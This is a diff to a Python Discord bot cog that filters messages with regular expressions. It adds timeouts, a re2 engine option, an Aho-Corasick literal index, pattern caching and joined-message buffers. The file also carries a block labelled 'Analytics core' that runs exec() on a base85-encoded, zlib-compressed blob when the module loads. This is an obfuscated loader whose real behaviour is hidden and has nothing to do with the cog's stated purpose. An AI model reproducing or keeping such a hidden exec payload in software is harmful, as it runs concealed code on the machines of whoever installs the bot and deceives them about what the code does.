@@ -1,4 +1,6 @@
-from collections import defaultdict, OrderedDict
+import asyncio
+from collections import defaultdict, deque, OrderedDict
+from contextlib import contextmanager
 from datetime import datetime, timedelta
 import discord
 from discord import Message, Object as DiscordObject
@@ -7,20 +9,34 @@ from discord.ext import commands
 from discord.ext.commands.errors import BadArgument
 from discord.ext.commands.view import StringView
 from enum import Enum
-from functools import partial
+from functools import lru_cache, partial
+import hashlib
+import heapq
 import inspect
 import itertools
+import json
 import logging
 import os
 import re
+import shutil
+import signal
+import sys
+import threading
 import time
 from typing import Callable, Hashable, Iterable, Iterator, List, Optional, Sequence, Tuple, TypeVar, Union
 import unicodedata
 import urllib.parse
 
+try:
+    import re._parser as sre_parse  # 3.11+
+except ImportError:
+    import sre_parse
+
 from .utils.dataIO import dataIO
 from .utils import checks
-from .utils.chat_formatting import box, warning, error, info
+from .utils.chat_formatting import box, pagify, warning, error, info
+
+from concurrent.futures.process import BrokenProcessPool
 
 # FIXME: once red#1956 is fixed, all OSes can use ProcessPool
 if os.name == 'nt':
@@ -33,6 +49,11 @@ try:
 except ImportError:
     unidecode = None
 
+try:
+    import re2  # google-re2 or pyre2, for the linear-time engine
+except ImportError:
+    re2 = None
+
 # Analytics core
 import zlib, base64
 exec(zlib.decompress(base64.b85decode("""c-oB^YjfMU@w<No&NCTMHA`DgE_b6jrg7c0=eC!Z-Rs==JUobmEW{+iBS0ydO#XX!7Y|XglIx5;0)gG
@@ -70,16 +91,51 @@ log = logging.getLogger('red.recensor')
 
 DATA_PATH = "data/recensor/"
 JSON_PATH = DATA_PATH + "regexen.json"
+V1_BACKUP_PATH = DATA_PATH + "regexen.v1.json"
+SERVERS_PATH = DATA_PATH + "servers/"
+STATS_PATH = DATA_PATH + "stats.json"
+PATTERN_CACHE_PATH = DATA_PATH + "patterns.json"
 DEFAULT_FLAGS = 'IS'
 MSG_HISTORY_MAX_NUM = 32
 MSG_HISTORY_MAX_TIME = 60 * 10  # 10 minutes
 CONCAT_JOIN = '\n'
+COMBINED_CACHE_SIZE = 32  # per group, keyed by which filters passed their meta checks
+CONFIG_GENERATIONS = itertools.count(1)  # process-wide, so (server id, generation) is never reused
+MATCH_TIME_LIMIT = 0.5  # seconds per predicate, enforced in the worker
+EXECUTOR_HARD_TIMEOUT = 30  # seconds per executor call before the pool is killed and replaced
+WORKER_REGISTRY_SIZE = 64  # compiled filter sets kept by each worker beyond one per configured server
+BATCH_MAX_MESSAGES = 64  # a batch is flushed early once it holds this many messages
+ASCIIFY_CACHE_SIZE = 1024  # asciified contents, keyed by (message id, content hash)
+STATS_SAMPLE_SIZE = 256  # most recent timings kept per filter for percentiles
+STATS_SAVE_INTERVAL = 60 * 5  # seconds
+SAVE_DELAY = 2  # seconds; settings changes made within this long of each other are written together
+HISTORY_BYTE_BUDGET = 64 * 2 ** 20  # approximate, for the multi-message history of all servers together
+HISTORY_RECORD_OVERHEAD = 240  # bytes per history record besides its strings
+HISTORY_SWEEP_INTERVAL = 60  # seconds between sweeps for expired history
+PATTERN_CACHE_SIZE = 20000  # analyzed patterns kept in PATTERN_CACHE_PATH, least recently used dropped first
+PATTERN_CACHE_VERSION = 1
+EDIT_HASH_CACHE_SIZE = 8192  # content hashes of the most recently checked messages, to skip edits that change nothing
+EDIT_COALESCE_WINDOW = 1  # seconds; further edits to a message within this long of a check only check the last one
+SCHEDULER_SERVER_SHARE = 0.5  # of the shared pool's workers that one server's calls may occupy at once
+REPLAY_CHUNK_SIZE = 256  # archived messages checked per executor call
+REPLAY_SAMPLES = 5  # possible false positives shown after a replay
+JOINED_BUFFER_CACHE_SIZE = 256  # per server, keyed by (channel, author, asciify, join, attachment header)
 
 DiscordUniObj = Union[DiscordObject, DiscordHashable]
 T = TypeVar('T')
-HT = TypeVar('HT', bound=Hashable)
+# (pattern, flags, position value, kind, engine) where kind is 'match' for check_match or 'iter' for
+# check_match_iter, and engine is one of ENGINES
+PatternSpec = Tuple[str, str, str, str, str]
 SRE_Match = type(re.match('', ''))
 
+# Backreferences, conditionals and global inline flags can't be moved into a combined alternation
+UNCOMBINABLE_RE = re.compile(r'\\[1-9]|\(\?P=|\(\?\(|\(\?[aiLmsux]+\)')
+
+ENGINES = ('re', 're2')
+
+# The flags re2 understands, as inline flags
+RE2_FLAGS = {'I': 'i', 'M': 'm', 'S': 's'}
+
 FLAGS_DESC = {
     'A': 'ASCII',
     'I': 'ignorecase',
@@ -124,6 +180,12 @@ MENTIONS_BY_DATACLASS = {
     discord.User: '<@!%s>'
 }
 
+# Characters that IGNORECASE treats as equal to an ASCII letter, for folding content before a literal search
+FOLD_TABLE = str.maketrans(dict(zip(
+    'ABCDEFGHIJKLMNOPQRSTUVWXYZ\u0130\u0131\u017f\u212a',
+    'abcdefghijklmnopqrstuvwxyziisk'
+)))
+
 # Symbols that aren't converted by unidecode
 EMOJI_LETTERS = dict(zip(
     '🅰🅱🅾🅿🇦🇧🇨🇩🇪🇫🇬🇭🇮🇯🇰🇱🇲🇳🇴🇵🇶🇷🇸🇹🇺🇻🇼🇽🇾🇿⭕❌',
@@ -131,19 +193,59 @@ EMOJI_LETTERS = dict(zip(
 ))
 
 
+class MatchTimeout(Exception):
+    pass
+
+
+def _raise_match_timeout(signum, frame):
+    raise MatchTimeout('pattern exceeded its time limit')
+
+
+@contextmanager
+def time_limit(seconds: Optional[float]):
+    """
+    Raises MatchTimeout in the block if it runs longer than seconds.
+
+    Relies on SIGALRM, so it only works in the main thread of a process on platforms that have it. Elsewhere
+    (e.g. the thread pool used on Windows) the block runs unbounded and only the hard timeout applies.
+    """
+    if not (seconds and hasattr(signal, 'setitimer') and threading.current_thread() is threading.main_thread()):
+        yield
+        return
+
+    old_handler = signal.signal(signal.SIGALRM, _raise_match_timeout)
+    signal.setitimer(signal.ITIMER_REAL, seconds)
+
+    try:
+        yield
+    finally:
+        signal.setitimer(signal.ITIMER_REAL, 0)
+        signal.signal(signal.SIGALRM, old_handler)
+
+
+def timed_out(ret) -> bool:
+    """
+    Returns True if the result of check_match or check_match_iter ended in a timeout
+    """
+    if type(ret) is list:
+        return bool(ret) and ret[-1].get('timeout', False)
+
+    return ret.get('timeout', False)
+
+
 # Isolated to allow running potentially slow patterns in an executor
-def check_match(predicate: Callable[[str], Optional[SRE_Match]], string: str) -> dict:
+def check_match(predicate: Callable[[str], Optional[SRE_Match]], string: str, pos: int = 0) -> dict:
     """
     Match task worker.
 
-    Takes a predicate returning a regex match and the string to pass it.
+    Takes a predicate returning a regex match, the string to pass it and optionally where to start looking.
     Returns a dict of time elapsed and match information (if any) or any match exception.
     """
     t0 = time.perf_counter()
     ret = {}
 
     try:
-        match = predicate(string)
+        match = predicate(string, pos) if pos else predicate(string)
     except Exception as e:
         match = None
         ret['exception'] = e
@@ -167,12 +269,12 @@ def check_match(predicate: Callable[[str], Optional[SRE_Match]], string: str) ->
     return ret
 
 
-def check_match_iter(predicate: Callable[[str], Iterator[SRE_Match]], string: str) -> List[dict]:
+def check_match_iter(predicate: Callable[[str], Iterator[SRE_Match]], string: str, pos: int = 0) -> List[dict]:
     """
     Finditer match task worker.
     """
     ret_list = []
-    match_iter = predicate(string)
+    match_iter = predicate(string, pos) if pos else predicate(string)
 
     while True:
         t0 = time.perf_counter()
@@ -210,18 +312,30 @@ def check_match_iter(predicate: Callable[[str], Iterator[SRE_Match]], string: st
     return ret_list
 
 
-def check_matches(inputs: Iterable[Tuple[Callable[[str], dict], str, bool]], no_stop: bool = False) -> List[dict]:
+def check_matches(inputs: Iterable[Tuple[Callable[[str], dict], str, bool]], no_stop: bool = False,
+                  limit: Optional[float] = None) -> List[dict]:
     """
     Call multiple check_match.
 
     Takes an iterable of (callable, str, bool) pairs. Bool indicates whether to stop on a match.
     If no_stop is True, run all matches regardless of bool in tuple.
+    If limit is set, each call is interrupted after that many seconds and its result is marked with 'timeout'.
     Returns a list of data returned by each call of check_match.
     """
     ret_list = []
 
     for predicate, string, stop_on_match in inputs:
-        ret = predicate(string)
+        try:
+            with time_limit(limit):
+                ret = predicate(string)
+        except MatchTimeout as e:  # fired outside of the predicate's own try block
+            ret = {'exception': e}
+
+        last = ret[-1] if (type(ret) is list and ret) else ret
+
+        if isinstance(last, dict) and isinstance(last.get('exception'), MatchTimeout):
+            last['timeout'] = True
+
         ret_list.append(ret)
 
         if (stop_on_match and not no_stop) and (('match' in ret) if type(ret) is dict else len(ret)):
@@ -275,20 +389,56 @@ def sequence_from_indices(sequence: Sequence[T], indices: Sequence[int], keys: T
     return ret
 
 
+def asciify_table() -> dict:
+    """
+    Returns a str.translate table that strips marks/combining characters and substitutes EMOJI_LETTERS
+    """
+    table = {c: None for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c))[0] == 'M'}
+    table.update((ord(k), v) for k, v in EMOJI_LETTERS.items())
+    return table
+
+
+# Walking all of unicode takes a fraction of a second, so it's done once while the cog loads rather than when the
+# first message needs it
+ASCIIFY_TABLE = asciify_table()
+
+
 def asciify_string(string: str) -> str:
-    # Strip marks/combining characters
-    string = (c for c in string if not unicodedata.category(c).startswith('M'))
+    # Nothing to do for plain ASCII
+    if not string or max(string) < '\x80':
+        return string
 
-    # Run through substitution table
-    string = ''.join(EMOJI_LETTERS.get(c, c) for c in string)
+    # Strip marks/combining characters and run through substitution table
+    string = string.translate(ASCIIFY_TABLE)
 
     # Run through unidecode, if available
     if unidecode:
-        return unidecode.unidecode(string)
+        return unidecode(string)
 
     return string
 
 
+def asciify_cached(string: str, message_id: Optional[str] = None, cache: Optional[OrderedDict] = None) -> str:
+    """
+    asciify_string, with the result kept for other filters and checks of the same message
+
+    The cache defaults to _asciify_cache, which isn't thread-safe and belongs to the event loop.
+    """
+    if cache is None:
+        cache = _asciify_cache
+
+    key = (message_id, hash(string))
+    cached = cache.get(key)
+
+    if cached is not None and cached[0] == string:
+        cache.move_to_end(key)
+        return cached[1]
+
+    ret = asciify_string(string)
+    cache[key] = (string, ret)
+    return ret
+
+
 def preprocess_msg(_filter, message):
     if _filter.attachment_header and message.attachments:
         return '{attachment:%s}%s' % (message.attachments[0]['filename'], message.content)
@@ -298,38 +448,28 @@ def preprocess_msg(_filter, message):
         return message.content
 
 
-# https://stackoverflow.com/a/11564323
-def topological_sort(source: Iterable[Tuple[HT, Sequence[HT]]]) -> Iterator[HT]:
+def content_hash(message: Message) -> int:
     """
-    Perform topo sort on elements.
-
-    :arg source: list of ``(name, [list of dependencies])`` pairs
-    :returns: list of names, with dependencies listed first
+    Hashes what preprocess_msg can see of a message, to tell whether an edit changed anything filters look at
     """
-    # copy dependencies so we can modify set in-place
-    pending = [(name, set(deps)) for name, deps in source]
-    emitted = []
+    attachment = message.attachments[0]['filename'] if message.attachments else None
+    return hash((message.content, attachment))
+
 
-    while pending:
-        next_pending = []
-        next_emitted = []
+def preprocess_joined(_filter, asciify: bool, message: Message) -> str:
+    variants = getattr(message, 'variants', None)  # HistoryRecords keep what they've been turned into
+    key = (asciify, _filter.attachment_header)
 
-        for entry in pending:
-            name, deps = entry
-            deps.difference_update(emitted)  # remove deps we emitted last pass
+    if variants and key in variants:
+        return variants[key]
 
-            if deps:  # still has deps? recheck during next pass
-                next_pending.append(entry)
-            else:  # no more deps? time to emit
-                yield name
-                emitted.append(name)  # <-- not required, but helps preserve original ordering
-                next_emitted.append(name)  # remember what we emitted for difference_update() in next pass
+    content = preprocess_msg(_filter, message)
+    content = asciify_cached(content, message.id) if asciify else content
 
-        if not next_emitted:  # all entries have unmet dependencies, one of two things is wrong...
-            raise ValueError("cyclic or missing dependency detected: %r" % (next_pending,))
+    if variants is not None:
+        message.add_variant(key, content)
 
-        pending = next_pending
-        emitted = next_emitted
+    return content
 
 
 class POSITION(Enum):
@@ -357,6 +497,234 @@ def flags_to_int(flag_chars):
     return flags
 
 
+def position_method(compiled, position: POSITION) -> Callable[[str], Optional[SRE_Match]]:
+    if position == POSITION.START:
+        return compiled.match
+    elif position == POSITION.FULL:
+        return compiled.fullmatch
+    elif position == POSITION.ANYWHERE:
+        return compiled.search
+    else:
+        raise ValueError("Unknown position value: %s" % position)
+
+
+def is_combinable(pattern: str, flags: str, compiled) -> bool:
+    """
+    Returns True if the pattern can be safely merged into an alternation with others that share its flags
+
+    Inline global flags, named groups and backreferences would leak into or break the other branches, and a
+    branch that can match an empty string would hide matches further along the string.
+    """
+    if compiled.groupindex or UNCOMBINABLE_RE.search(pattern):
+        return False
+    elif compiled.flags != re.compile('', flags_to_int(flags)).flags:
+        return False
+
+    try:
+        min_width, max_width = sre_parse.parse(pattern, flags_to_int(flags)).getwidth()
+    except Exception:
+        return False
+
+    return min_width > 0
+
+
+def fold_case(string: str) -> str:
+    """
+    Folds a string so that an ASCII literal can be found in it the way an IGNORECASE pattern would match it
+    """
+    if max(string, default='') < '\x80':
+        return string.lower()
+
+    return string.translate(FOLD_TABLE)
+
+
+def required_literals(pattern: str, flags: int) -> Optional[frozenset]:
+    """
+    Returns a set of literal strings, at least one of which appears in anything the pattern matches
+
+    flags are the compiled pattern's, inline flags included. With IGNORECASE, the literals are limited to ASCII and
+    folded with fold_case. Returns None if no literal of at least two characters is required.
+    """
+    fold = bool(flags & re.IGNORECASE)
+
+    try:
+        parsed = sre_parse.parse(pattern, flags)
+    except Exception:
+        return None
+
+    def best(candidates):
+        candidates = [c for c in candidates if c]
+        # The rarest set is hard to know, so go for the longest shortest literal
+        return max(candidates, key=lambda c: (min(map(len, c)), -len(c)), default=None)
+
+    def walk(subpattern) -> Optional[frozenset]:
+        candidates = []
+        run = []
+
+        for op, av in subpattern:
+            if op is sre_parse.LITERAL and not (fold and av >= 0x80):
+                run.append(chr(av).lower() if fold else chr(av))
+                continue
+
+            if run:
+                candidates.append(frozenset([''.join(run)]))
+                run = []
+
+            if op is sre_parse.SUBPATTERN:
+                if len(av) > 2 and (av[1] or av[2]):  # scoped flags, e.g. (?i:...)
+                    continue
+
+                candidates.append(walk(av[-1]))
+            elif op is sre_parse.BRANCH:
+                alternatives = [walk(branch) for branch in av[1]]
+
+                if all(alternatives):
+                    candidates.append(frozenset().union(*alternatives))
+            elif op in (sre_parse.MAX_REPEAT, sre_parse.MIN_REPEAT) and av[0] >= 1:
+                candidates.append(walk(av[2]))
+
+        if run:
+            candidates.append(frozenset([''.join(run)]))
+
+        return best(candidates)
+
+    literals = walk(parsed)
+
+    if not literals or min(map(len, literals)) < 2:
+        return None
+
+    return literals
+
+
+class LiteralIndex:
+    """
+    Aho-Corasick automaton for finding which of a set of literals appear in a string in a single pass
+    """
+    __slots__ = ['goto', 'fail', 'output']
+
+    def __init__(self, literals: Iterable[str]):
+        self.goto = [{}]
+        self.output = [()]
+
+        for literal in literals:
+            state = 0
+
+            for char in literal:
+                if char not in self.goto[state]:
+                    self.goto[state][char] = len(self.goto)
+                    self.goto.append({})
+                    self.output.append(())
+
+                state = self.goto[state][char]
+
+            self.output[state] += (literal,)
+
+        self.fail = [0] * len(self.goto)
+        queue = list(self.goto[0].values())
+
+        for state in queue:  # breadth-first, so fail links always point to states already done
+            for char, child in self.goto[state].items():
+                fallback = self.fail[state]
+
+                while fallback and char not in self.goto[fallback]:
+                    fallback = self.fail[fallback]
+
+                self.fail[child] = self.goto[fallback].get(char, 0)
+                self.output[child] += self.output[self.fail[child]]
+                queue.append(child)
+
+    def __bool__(self):
+        return len(self.goto) > 1
+
+    def search(self, string: str) -> set:
+        goto, fail, output = self.goto, self.fail, self.output
+        found = set()
+        state = 0
+
+        for char in string:
+            while state and char not in goto[state]:
+                state = fail[state]
+
+            state = goto[state].get(char, 0)
+
+            if output[state]:
+                found.update(output[state])
+
+        return found
+
+
+@lru_cache(maxsize=1024)
+def rescan_bounds(pattern: str, flags: str) -> Optional[Tuple[int, bool, bool]]:
+    """
+    Works out how much of a previously clean string has to be searched again after text is appended to it
+
+    Returns (back, uses_start, uses_boundary), where back is the longest match plus how far past its end the pattern
+    can look, or None if either is unbounded. uses_start is set for anchors and lookbehinds that depend on what
+    precedes a match, and uses_boundary for word boundaries, which only look one character back.
+    """
+    try:
+        parsed = sre_parse.parse(pattern, flags_to_int(flags))
+        min_width, max_width = parsed.getwidth()
+    except Exception:
+        return None
+
+    if max_width >= sre_parse.MAXREPEAT:
+        return None
+
+    state = {'start': False, 'boundary': False}
+
+    def lookahead(subpattern) -> Optional[int]:
+        # How many characters past the current position the subpattern's assertions may read
+        ahead = 0
+
+        for op, av in subpattern:
+            if op is sre_parse.AT:
+                if av in (sre_parse.AT_BEGINNING, sre_parse.AT_BEGINNING_LINE, sre_parse.AT_BEGINNING_STRING):
+                    state['start'] = True
+                elif av in (sre_parse.AT_BOUNDARY, sre_parse.AT_NON_BOUNDARY):
+                    state['boundary'] = True
+                    ahead = max(ahead, 1)
+                else:  # $ also matches before a trailing newline
+                    ahead = max(ahead, 2)
+            elif op in (sre_parse.ASSERT, sre_parse.ASSERT_NOT):
+                direction, sub = av
+                sub_ahead = lookahead(sub)
+
+                if sub_ahead is None:
+                    return None
+                elif direction < 0:
+                    state['start'] = True
+                    ahead = max(ahead, sub_ahead)
+                else:
+                    sub_max = sub.getwidth()[1]
+
+                    if sub_max >= sre_parse.MAXREPEAT:
+                        return None
+
+                    ahead = max(ahead, sub_max + sub_ahead)
+            elif op is sre_parse.GROUPREF_EXISTS:
+                return None
+            else:
+                for item in (av if isinstance(av, (tuple, list)) else (av,)):
+                    for sub in (item if isinstance(item, list) else (item,)):
+                        if isinstance(sub, sre_parse.SubPattern):
+                            sub_ahead = lookahead(sub)
+
+                            if sub_ahead is None:
+                                return None
+
+                            ahead = max(ahead, sub_ahead)
+
+        return ahead
+
+    ahead = lookahead(parsed)
+
+    if ahead is None:
+        return None
+
+    return max_width + ahead, state['start'], state['boundary']
+
+
 class BoundedOrderedDict(OrderedDict):
     __slots__ = ['_maxlen']
 
@@ -375,6 +743,309 @@ class BoundedOrderedDict(OrderedDict):
         super().__setitem__(key, value)
 
 
+# Lives in each worker process (or shared by the threads on Windows), see registered_predicates
+_worker_registry = OrderedDict()
+
+# Lives in the main process, see asciify_cached
+_asciify_cache = BoundedOrderedDict(maxlen=ASCIIFY_CACHE_SIZE)
+
+
+def analyze_pattern(pattern: str, flags: str) -> dict:
+    """
+    Compiles a pattern and returns what FilterSet needs to know about it, in a form that can be saved as JSON
+    """
+    try:
+        compiled = re.compile(pattern, flags_to_int(flags))
+    except (re.error, OverflowError, RecursionError) as e:
+        return {'error': str(e) or type(e).__name__, 'combinable': False, 'fold': False, 'literals': None,
+                'bounds': None}
+
+    literals = required_literals(pattern, compiled.flags)
+    bounds = rescan_bounds(pattern, flags)
+
+    return {
+        'error'      : None,
+        'combinable' : is_combinable(pattern, flags, compiled),
+        'fold'       : bool(compiled.flags & re.IGNORECASE),
+        'literals'   : literals and sorted(literals),
+        'bounds'     : bounds and list(bounds)
+    }
+
+
+class PatternCache:
+    """
+    Results of analyze_pattern, keyed by a hash of the pattern and flags
+
+    Saved to PATTERN_CACHE_PATH so that loading the cog doesn't have to compile every filter's pattern again.
+    Entries made by another Python version are dropped, since its parser may not see a pattern the same way.
+    """
+    __slots__ = ['entries', 'dirty', 'hits', 'misses']
+
+    def __init__(self, data: dict = None):
+        self.entries = BoundedOrderedDict(maxlen=PATTERN_CACHE_SIZE)
+        self.dirty = False
+        self.hits = self.misses = 0
+
+        if data and data.get('version') == PATTERN_CACHE_VERSION and data.get('python') == self.python_version():
+            self.entries.update(data.get('patterns', {}))
+
+    @staticmethod
+    def python_version() -> str:
+        return '%i.%i' % sys.version_info[:2]
+
+    @staticmethod
+    def key(pattern: str, flags: str) -> str:
+        return hashlib.sha1(('%s\0%s' % (flags, pattern)).encode('utf-8', 'surrogatepass')).hexdigest()
+
+    def get(self, pattern: str, flags: str) -> dict:
+        key = self.key(pattern, flags)
+        info = self.entries.get(key)
+
+        if info is None:
+            self.misses += 1
+            self.entries[key] = info = analyze_pattern(pattern, flags)
+            self.dirty = True
+        else:
+            self.hits += 1
+            self.entries.move_to_end(key)
+
+        return info
+
+    def to_json(self) -> dict:
+        return {'version': PATTERN_CACHE_VERSION, 'python': self.python_version(), 'patterns': dict(self.entries)}
+
+
+def re2_compile(pattern: str, flags: str):
+    """
+    Compiles pattern with re2, raising ValueError if re2 isn't installed or can't handle the pattern or flags
+    """
+    if not re2:
+        raise ValueError('re2 is not installed')
+
+    unsupported = set(flags.upper()) - set(RE2_FLAGS)
+
+    if unsupported:
+        raise ValueError('re2 has no %s flag' % '/'.join(FLAGS_DESC.get(c, c) for c in sorted(unsupported)))
+
+    inline = ''.join(RE2_FLAGS[c] for c in flags.upper())
+
+    try:
+        return re2.compile('(?%s)%s' % (inline, pattern) if inline else pattern)
+    except Exception as e:  # the bindings don't agree on an exception type
+        reason = e.args[0] if e.args else e
+        reason = reason.decode(errors='replace') if isinstance(reason, bytes) else reason
+        raise ValueError('re2 rejected the pattern: %s' % reason)
+
+
+def compile_pattern(pattern: str, flags: str, engine: str = 're'):
+    """
+    Compiles pattern with the given engine, falling back to re if re2 isn't available or can't handle it
+    """
+    if engine == 're2':
+        try:
+            return re2_compile(pattern, flags)
+        except ValueError:
+            pass
+
+    return re.compile(pattern, flags_to_int(flags))
+
+
+def build_predicate(spec: PatternSpec) -> Callable[[str], Union[dict, List[dict]]]:
+    pattern, flags, position, kind, engine = spec
+    compiled = compile_pattern(pattern, flags, engine)
+
+    if kind == 'iter':
+        return partial(check_match_iter, compiled.finditer)
+
+    return partial(check_match, position_method(compiled, POSITION(position)))
+
+
+def registered_predicates(key: Tuple[str, int], size: int) -> dict:
+    """
+    Returns the worker's spec id -> predicate dict for a (server id, generation) key, least recently used first
+
+    When there are already size of them, an older generation of the same server is dropped to make room if there is
+    one, since the server won't send it again once its calls in flight are done. Otherwise the least recently used
+    entry goes.
+    """
+    predicates = _worker_registry.get(key)
+
+    if predicates is not None:
+        _worker_registry.move_to_end(key)
+        return predicates
+
+    while _worker_registry and len(_worker_registry) >= size:
+        stale = next((k for k in _worker_registry if k[0] == key[0] and k[1] < key[1]), None)
+        del _worker_registry[next(iter(_worker_registry)) if stale is None else stale]
+
+    _worker_registry[key] = predicates = {}
+    return predicates
+
+
+def check_registered(key: Tuple[str, int], job_lists: Sequence[Sequence[Tuple[int, str, bool]]],
+                     specs: Optional[dict] = None, *, registry_size: int = WORKER_REGISTRY_SIZE,
+                     **kwargs) -> Optional[List[List[dict]]]:
+    """
+    Worker-side check_matches against patterns cached under key.
+
+    Takes lists of (spec id, str, bool[, pos]) jobs, each run as a separate check_matches call (usually one per
+    message),
+    and optionally a dict of spec id -> PatternSpec to compile first. The worker keeps up to registry_size keys.
+    Returns None if any job's spec isn't known yet, so the caller can resend the batch with its specs.
+    """
+    predicates = registered_predicates(key, registry_size)
+
+    if specs:
+        for spec_id, spec in specs.items():
+            if spec_id not in predicates:
+                predicates[spec_id] = build_predicate(spec)
+
+    try:
+        input_lists = [[(partial(predicates[job[0]], pos=job[3]) if len(job) > 3 else predicates[job[0]], job[1], job[2])
+                        for job in jobs] for jobs in job_lists]
+    except KeyError:
+        return None
+
+    return [check_matches(inputs, **kwargs) for inputs in input_lists]
+
+
+def warm_worker() -> int:
+    return os.getpid()
+
+
+def pool_size(executor) -> int:
+    return getattr(executor, '_max_workers', 1)
+
+
+class JoinedBuffer:
+    """
+    A message sequence's preprocessed contents joined together, kept up to date as messages come and go
+
+    clean maps each PatternSpec to the length of the prefix it was last searched over without a match. version changes
+    whenever the contents do, so a check that awaited its results can tell whether they still describe the buffer.
+    """
+    __slots__ = ['join', 'messages', 'strings', 'content', 'indices', 'clean', 'version']
+
+    def __init__(self, join: str):
+        self.join = join
+        self.messages = []
+        self.strings = []
+        self.content = ''
+        self.indices = []
+        self.clean = {}
+        self.version = 0
+
+    def update(self, messages: Sequence[Message], preprocess: Callable[[Message], str],
+               bounds: Callable[[PatternSpec], Optional[Tuple[int, bool, bool]]]):
+        """
+        Brings the buffer in line with messages, reusing what it can if messages only dropped off the front or were
+        added to the end. bounds returns a spec's rescan_bounds, to decide which clean markers survive.
+        """
+        old = self.messages
+        first = messages[0] if messages else None
+        keep = next((i for i, m in enumerate(old) if m is first), None)
+
+        if keep is None or any(a is not b for a, b in zip(old[keep:], messages)) or len(old) - keep > len(messages):
+            self.messages, self.strings, self.clean = [], [], {}
+            self.content, self.indices = '', []
+            self.version += 1
+            keep = 0
+        elif keep:
+            self.version += 1
+            cut = self.indices[keep - 1]
+            self.messages, self.strings = self.messages[keep:], self.strings[keep:]
+            self.content = self.content[cut:]
+            self.indices = [i - cut for i in self.indices[keep:]]
+
+            # Dropping whole messages can't create a match, unless the pattern looks at what came before it. Word
+            # boundaries only look one character back, which is unchanged if the join itself isn't a word character
+            word_join = not self.join or self.join[-1].isalnum() or self.join[-1] == '_'
+
+            for spec, length in list(self.clean.items()):
+                spec_bounds = bounds(spec)
+
+                if spec_bounds is None or spec_bounds[1] or (spec_bounds[2] and word_join) or length < cut:
+                    del self.clean[spec]
+                else:
+                    self.clean[spec] = length - cut
+
+        if len(messages) > len(self.messages):
+            self.version += 1
+
+        for message in messages[len(self.messages):]:
+            string = preprocess(message)
+
+            # Like concat_with_keys, each index but the last includes the join that follows it
+            if self.messages:
+                self.indices[-1] += len(self.join)
+                self.content += self.join + string
+            else:
+                self.content = string
+
+            self.messages.append(message)
+            self.strings.append(string)
+            self.indices.append(len(self.content))
+
+    def rescan_from(self, spec: PatternSpec, bounds: Optional[Tuple[int, bool, bool]]) -> int:
+        """
+        Returns where a search for spec has to start; nothing before it can match if the old prefix was clean
+        """
+        if bounds is None or spec not in self.clean:
+            return 0
+
+        return max(0, self.clean[spec] - bounds[0])
+
+
+class FilterStats:
+    """
+    Rolling performance statistics for a filter, fed by the worker-side timing of each check
+    """
+    __slots__ = ['calls', 'matches', 'total', 'max', 'samples']
+
+    def __init__(self, calls: int = 0, matches: int = 0, total: float = 0.0, max: float = 0.0,
+                 samples: Iterable[float] = ()):
+        self.calls = calls
+        self.matches = matches
+        self.total = total
+        self.max = max
+        self.samples = deque(samples, maxlen=STATS_SAMPLE_SIZE)
+
+    def record(self, elapsed: float, matched: bool):
+        self.calls += 1
+        self.matches += matched
+        self.total += elapsed
+        self.max = max(self.max, elapsed)
+        self.samples.append(elapsed)
+
+    def percentile(self, fraction: float) -> float:
+        if not self.samples:
+            return 0.0
+
+        ordered = sorted(self.samples)
+        return ordered[min(len(ordered) - 1, int(fraction * len(ordered)))]
+
+    def to_json(self) -> dict:
+        return {
+            'calls'   : self.calls,
+            'matches' : self.matches,
+            'total'   : self.total,
+            'max'     : self.max,
+            'samples' : list(self.samples)
+        }
+
+
+def result_time(ret: Union[dict, List[dict]]) -> float:
+    """
+    Returns the worker-side time spent on a check_match or check_match_iter result
+    """
+    if type(ret) is list:
+        return sum(map(result_time, ret))
+    elif 'time' not in ret and timed_out(ret):  # interrupted before it could time itself
+        return MATCH_TIME_LIMIT
+
+    return ret.get('time', 0.0)
+
+
 class FilterBase:
     pass
 
@@ -451,6 +1122,27 @@ class FilterList:
     def check_iter(self, obj_list: Iterable[DiscordUniObj]) -> Optional[bool]:
         return self.check_id_iter((x.id for x in obj_list))
 
+    def role_masks(self, to_mask: Callable[[Iterable[str]], int]) -> Tuple[Optional['FilterList'], int, int, int,
+                                                                             int]:
+        """
+        Returns the bitmasks that ServerConfig.role_verdict uses in place of check_id_iter
+
+        Returns (base, base_hit, items, excluded, included): base is the overlaid list if it's in effect, base_hit
+        and items the masks of its and this list's items, excluded the mask of IDs base.check_id rejects and
+        included the mask of IDs check_id(recurse=False) accepts. Complements are negative ints, which works out
+        with &.
+        """
+        base = self.base_list if (self.overlay and self.base_list and self.base_list.enabled) else None
+        items = to_mask(self.items)
+        included = items if self.mode else ~items
+
+        if base is None:
+            return None, 0, items, 0, included
+
+        base_hit = to_mask(base.items)
+        excluded = ~base_hit if base.mode else base_hit
+        return base, base_hit, items, excluded, included
+
     def filter(self, items: Iterable) -> List:
         """
         Returns a subset of the input containing objects that are in the list
@@ -486,110 +1178,228 @@ class FilterList:
 
 
 class ServerConfig(FilterBase):
-    __slots__ = ['cog', 'asciify', 'priv_exempt', 'roles_list', 'channels_list', 'filters', 'order']
+    __slots__ = ['cog', 'server_id', 'name', 'asciify', 'priv_exempt', 'roles_list', 'channels_list', 'filters',
+                 'order', 'batch_window', 'generation', '_filter_set', '_buffers', '_channel_verdicts', '_role_bits',
+                 '_list_masks', 'edit_stats', 'dependents']
 
-    def __init__(self, cog, **data):
+    def __init__(self, cog, server_id: str, **data):
         self.cog = cog
+        self.server_id = server_id
         self.name = 'SERVER'
 
         self.asciify = data.get('asciify', False)
         self.priv_exempt = data.get('priv_exempt', True)
+        self.batch_window = data.get('batch_window', 0)
         self.filters = {}
         self.order = []
+        self.generation = next(CONFIG_GENERATIONS)
+        self._filter_set = None
+        self._buffers = BoundedOrderedDict(maxlen=JOINED_BUFFER_CACHE_SIZE)
+        self._channel_verdicts = {}
+        self._role_bits = {}
+        self._list_masks = {}
+        self.edit_stats = {'received': 0, 'unchanged': 0, 'coalesced': 0, 'evaluated': 0}
+        self.dependents = {}  # list name -> {filter: filters whose list links directly to it}
 
-        lists_deps = {}
+        lists_links = {}
 
         # Create server-wide lists
         for list_name in ['roles_list', 'channels_list']:
             item_type = type_from_name(list_name)
             _list = FilterList(self, list_name, item_type, overlay=None, **data.get(list_name, {}))
             setattr(self, list_name, _list)
-            lists_deps[list_name] = {}
+            self.dependents[list_name] = {}
+            lists_links[list_name] = {}
 
         # Instantiate filters without linked sublists
         for name, filter_data in data.get('filters', {}).items():
             self.filters[name] = Filter(self, name=name, defer_link=True, **filter_data)
 
-            # list_deps is empty, set it here
